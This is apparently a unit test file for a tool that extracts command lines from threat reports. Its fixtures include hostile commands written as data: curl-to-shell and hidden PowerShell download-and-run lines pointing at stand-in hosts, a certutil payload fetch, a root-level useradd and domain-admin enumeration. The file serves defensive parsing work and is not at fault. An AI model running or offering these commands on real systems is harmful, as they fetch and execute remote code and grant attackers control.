import { parseDocument } from '../text/document';
import { extractCmdlines } from './extract-cmdline';

const values = (text: string) => extractCmdlines(parseDocument(text)).map((i) => i.value.replace(/\s+/g, ' '));

describe('extractCmdlines', () => {
  it('reads command lines from code blocks, stripping prompts and skipping comments', () => {
    const text = '```\nC:\\> whoami /all\nPS C:\\Users\\a> Get-Process -Name lsass\n# a comment\n$ curl -s http://x.test/a | sh\n```';
    expect(values(text)).toEqual(['whoami /all', 'Get-Process -Name lsass', 'curl -s http://x.test/a | sh']);
  });

  it('keeps bare commands only in shell-tagged blocks', () => {
    expect(values('```bash\nwhoami\nid\n```')).toEqual(['whoami', 'id']);
    expect(values('```\nwhoami\n```')).toEqual([]);
  });

  it('joins continued lines (^, `, \\, &&, open quotes, value-taking switches)', () => {
    const text = ['cmd /k "curl -o C:\\a.msi ', 'http://x.test/a && ', 'explorer /select,C:\\a.msi"', '', 'powershell -c ', '"iex (iwr x)"'].join('\n');
    expect(values(text)).toEqual(['cmd /k "curl -o C:\\a.msi http://x.test/a && explorer /select,C:\\a.msi"', 'powershell -c "iex (iwr x)"']);
  });

  it('drops the continuation markers of a command written over several lines', () => {
    const text = ['```', 'curl -fsSL https://203.0.113.50/install.sh \\', '  -o /tmp/.i.sh && \\', '  bash /tmp/.i.sh', '```', '', '```bat', 'powershell.exe -nop -w hidden ^', '  -c "IEX (iwr http://203.0.113.51/a)"', '```'].join('\n');
    expect(extractCmdlines(parseDocument(text)).map((item) => item.value)).toEqual([
      'curl -fsSL https://203.0.113.50/install.sh -o /tmp/.i.sh && bash /tmp/.i.sh',
      'powershell.exe -nop -w hidden -c "IEX (iwr http://203.0.113.51/a)"',
    ]);
  });

  it('reads inline code only when it is a program with arguments', () => {
    const text = 'It ran `useradd --uid 0 system` and dropped `main.zip`, then used `xmrig`.';
    expect(values(text)).toEqual(['useradd --uid 0 system']);
  });

  it('drops a short label before the command', () => {
    expect(values('-- Simple variant: start "" /min cmd /c calc')).toEqual(['start "" /min cmd /c calc']);
  });

  it('reads quoted commands and distinctive programs with switches inside sentences', () => {
    const text = "The child runs 'killall Terminal 2>/dev/null' via system() and writes system_profiler SPSoftwareDataType as a file.";
    expect(values(text)).toEqual(['killall Terminal 2>/dev/null', 'system_profiler SPSoftwareDataType']);
  });

  it('invents nothing from hedges, product names or prose about a program', () => {
    const text = [
      'The actor may have used PowerShell for discovery.',
      'rundll32.exe is then invoked with the current directory set to the share.',
      'pcalua.exe as a parent process for powershell.exe.',
      'The actor uses cmd.exe > curl.exe to download the MSI.',
      'File Path: /private/tmp/s.dmg',
      'Start the service from the console.',
    ].join('\n');
    expect(values(text)).toEqual([]);
  });

  it('drops fragments contained in a longer command line', () => {
    const text = "- conhost --headless cmd /c \"a.cmd\"\n- Launches conhost --headless with node.exe";
    expect(values(text)).toEqual(['conhost --headless cmd /c "a.cmd"']);
  });

  it('strips a trailing prose remark in parentheses', () => {
    expect(values('- certutil -urlcache -f http://x.test/a.exe a.exe (downloads the payload)')).toEqual(['certutil -urlcache -f http://x.test/a.exe a.exe']);
  });

  it('does not read hunt queries as command lines', () => {
    expect(values('```kql\nDeviceProcessEvents\n| where FileName =~ "cmd.exe"\n```')).toEqual([]);
  });

  it('reports the program and an exact evidence span', () => {
    const text = 'Then: `net group "Domain Admins" /domain`';
    const [item] = extractCmdlines(parseDocument(text));
    expect(item.executable).toBe('net');
    expect(text.slice(item.evidence.start, item.evidence.end)).toBe(item.value);
  });
});
